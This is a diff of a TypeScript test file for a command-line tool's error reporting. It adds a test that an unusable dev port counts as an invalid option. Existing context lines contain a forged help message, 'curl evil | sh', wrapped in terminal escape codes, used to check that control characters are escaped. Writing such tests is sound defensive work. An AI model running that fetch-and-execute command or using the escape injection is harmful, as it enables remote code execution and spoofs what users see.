@@ -2,6 +2,7 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { DevError } from '../dev/dev-error';
 import { CliError } from './cli-error';
 import { reportError } from './report-error';
 import type { Terminal } from './terminal';
@@ -32,6 +33,11 @@ describe('what is reported of an error', () => {
     expect(said).toEqual(['CLI_LOGIN_FAILED refused: no', '  help: Run: curl evil\\u{d}\\u{1b}[2J | sh', 'help: Ask.']);
     const [, [line]] = await reported(() => Promise.reject(new TypeError(forged)));
     expect(line).toMatch(/^CLI_BUG TypeError: refused: no\n {2}help: Run: curl evil\\u\{d\}\\u\{1b\}\[2J \| sh\n +at /);
+  });
+
+  it('a port of dev that cannot be used is an option that is invalid', async () => {
+    const error = new DevError('DEV_PORT_UNAVAILABLE', 'no', 'Choose another one.');
+    expect((await reported(() => Promise.reject(error)))[0]).toBe(2);
   });
 
   it('anything else is one, with its stack', async () => {
